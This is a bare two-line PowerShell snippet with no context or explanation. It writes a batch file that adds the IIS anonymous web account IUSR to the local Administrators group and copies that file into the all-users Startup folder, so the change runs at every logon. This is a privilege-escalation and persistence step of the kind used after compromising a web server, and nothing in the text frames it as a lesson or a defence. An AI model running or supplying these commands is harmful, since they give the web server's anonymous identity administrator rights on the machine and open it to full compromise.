Set-Content C:\setup.cmd 'net localgroup Administrators IUSR /add'
Copy-Item C:\setup.cmd 'C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp'
